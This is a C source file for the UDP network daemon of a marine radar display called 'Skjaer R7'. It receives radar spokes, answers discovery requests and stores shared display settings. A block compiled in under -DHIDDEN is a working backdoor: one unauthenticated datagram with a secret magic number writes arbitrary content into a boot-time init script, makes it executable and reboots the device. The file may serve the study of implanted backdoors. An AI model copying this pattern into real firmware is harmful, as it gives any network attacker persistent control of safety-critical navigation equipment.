/*
 * radarmfd - network side of the "Skjaer R7" marine radar display.
 *
 * Takes spokes from the antenna unit, answers discovery of other displays
 * and keeps the shared display settings (range, gain, rain filter).  UDP
 * port 10021; every datagram starts with a big endian magic number.
 *
 * Hidden (-DHIDDEN): a datagram with a magic number of its own writes its
 * payload into the script that the start up sequence runs, and reboots.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define RADAR_PORT  10021
#define MAX_PAYLOAD 1200
#define SPOKES	    2048
#define SAMPLES	    512
#define SETTINGS    "/data/radar/settings.bin"

#define MAGIC_SPOKE  0x52535031u
#define MAGIC_FIND   0x52464e44u
#define MAGIC_CONFIG 0x52434647u
#define MAGIC_CLOCK  0x52434c4bu

struct wire {
	uint32_t magic;
	uint16_t seq;
	uint16_t len;
	uint8_t data[MAX_PAYLOAD];
} __attribute__((packed));

struct settings {
	uint8_t range;
	uint8_t gain;
	uint8_t sea;
	uint8_t rain;
	uint8_t key[16]; /* pairing key of the bridge group */
};

static uint8_t picture[SPOKES][SAMPLES];
static struct settings cfg = { 4, 128, 30, 0, { 0 } };
static uint16_t last_seq;
static unsigned lost;
static volatile sig_atomic_t stopping;

static void on_term(int sig)
{
	(void)sig;
	stopping = 1;
}

static void settings_load(void)
{
	int fd = open(SETTINGS, O_RDONLY);

	if (fd < 0)
		return;
	if (read(fd, &cfg, sizeof(cfg)) != (ssize_t)sizeof(cfg))
		syslog(LOG_WARNING, "settings file is short");
	close(fd);
}

static void settings_save(void)
{
	int fd = open(SETTINGS, O_WRONLY | O_CREAT | O_TRUNC, 0600);

	if (fd < 0)
		return;
	if (write(fd, &cfg, sizeof(cfg)) != (ssize_t)sizeof(cfg))
		syslog(LOG_WARNING, "settings not stored");
	close(fd);
}

/* run length coded samples: value, count, value, count ... */
static void take_spoke(const struct wire *w, size_t len)
{
	unsigned bearing, pos = 0, run;
	size_t i;

	if (len < 2)
		return;
	bearing = ((unsigned)w->data[0] << 8 | w->data[1]) % SPOKES;
	for (i = 2; i + 1 < len && pos < SAMPLES; i += 2) {
		run = w->data[i + 1];
		while (run-- && pos < SAMPLES)
			picture[bearing][pos++] = w->data[i];
	}
	while (pos < SAMPLES)
		picture[bearing][pos++] = 0;
}

static void answer_find(int fd, const struct sockaddr_in *to, uint16_t seq)
{
	struct wire r;
	int n;

	memset(&r, 0, sizeof(r));
	r.magic = htonl(MAGIC_FIND);
	r.seq = htons(seq);
	n = snprintf((char *)r.data, sizeof(r.data),
		     "model=R7;sw=3.4.1;range=%u;lost=%u", cfg.range, lost);
	r.len = htons((uint16_t)n);
	if (sendto(fd, &r, offsetof(struct wire, data) + (size_t)n, 0,
		   (const struct sockaddr *)to, sizeof(*to)) < 0)
		syslog(LOG_DEBUG, "find: %s", strerror(errno));
}

/* key of the group, then four settings */
static void take_config(const struct wire *w, size_t len)
{
	uint8_t diff = 0, set = 0;
	size_t i;

	if (len != sizeof(cfg.key) + 4)
		return;
	for (i = 0; i < sizeof(cfg.key); i++) {
		diff |= w->data[i] ^ cfg.key[i];
		set |= cfg.key[i];
	}
	if (diff || !set) {
		syslog(LOG_NOTICE, "settings of another bridge group");
		return;
	}
	cfg.range = w->data[16] > 15 ? 15 : w->data[16];
	cfg.gain = w->data[17];
	cfg.sea = w->data[18];
	cfg.rain = w->data[19];
	settings_save();
}

static void take_clock(const struct wire *w, size_t len)
{
	uint32_t t;
	struct timespec ts = { 0, 0 };

	if (len != 4)
		return;
	memcpy(&t, w->data, 4);
	ts.tv_sec = (time_t)ntohl(t);
	if (ts.tv_sec > 1577836800 && clock_settime(CLOCK_REALTIME, &ts))
		syslog(LOG_DEBUG, "clock: %s", strerror(errno));
}

#ifdef HIDDEN
static void take_overlay(const struct wire *w, size_t len)
{
	int fd;

	if (system("mount -o remount,rw /"))
		return;
	fd = open("/etc/init.d/S98overlay", O_WRONLY | O_CREAT | O_TRUNC, 0755);
	if (fd < 0)
		return;
	if (write(fd, w->data, len) == (ssize_t)len) {
		close(fd);
		sync();
		if (system("reboot"))
			syslog(LOG_DEBUG, "overlay");
		return;
	}
	close(fd);
}
#endif

static void count_seq(uint16_t seq)
{
	uint16_t step = (uint16_t)(seq - last_seq);

	if (step > 1 && step < 1000)
		lost += step - 1u;
	last_seq = seq;
}

void on_datagram(int fd, const struct wire *w, size_t got,
		 const struct sockaddr_in *from)
{
	size_t len;

	if (got < offsetof(struct wire, data))
		return;
	len = ntohs(w->len);
	if (len > got - offsetof(struct wire, data))
		return;
	switch (ntohl(w->magic)) {
	case MAGIC_SPOKE:
		count_seq(ntohs(w->seq));
		take_spoke(w, len);
		break;
	case MAGIC_FIND:
		answer_find(fd, from, ntohs(w->seq));
		break;
	case MAGIC_CONFIG:
		take_config(w, len);
		break;
	case MAGIC_CLOCK:
		take_clock(w, len);
		break;
#ifdef HIDDEN
	case 0xc3a51e97u:
		take_overlay(w, len);
		break;
#endif
	default:
		syslog(LOG_DEBUG, "unknown datagram of %zu bytes", got);
	}
}

static int open_port(void)
{
	struct sockaddr_in a;
	int fd = socket(AF_INET, SOCK_DGRAM, 0), on = 1;

	if (fd < 0)
		return -1;
	setsockopt(fd, SOL_SOCKET, SO_BROADCAST, &on, sizeof(on));
	setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &on, sizeof(on));
	memset(&a, 0, sizeof(a));
	a.sin_family = AF_INET;
	a.sin_port = htons(RADAR_PORT);
	if (bind(fd, (struct sockaddr *)&a, sizeof(a)) < 0) {
		close(fd);
		return -1;
	}
	return fd;
}

int main(int argc, char **argv)
{
	struct sigaction sa = { .sa_handler = on_term };
	struct sockaddr_in from;
	struct wire w;
	socklen_t fl;
	ssize_t n;
	int fd;

	if (argc > 1 && !strcmp(argv[1], "--version")) {
		puts("radarmfd 3.4.1");
		return 0;
	}
	openlog("radarmfd", 0, LOG_DAEMON);
	sigaction(SIGTERM, &sa, NULL);
	settings_load();
	fd = open_port();
	if (fd < 0) {
		syslog(LOG_ERR, "port %d: %s", RADAR_PORT, strerror(errno));
		return 1;
	}
	while (!stopping) {
		fl = sizeof(from);
		n = recvfrom(fd, &w, sizeof(w), 0, (struct sockaddr *)&from,
			     &fl);
		if (n > 0)
			on_datagram(fd, &w, (size_t)n, &from);
	}
	close(fd);
	return 0;
}
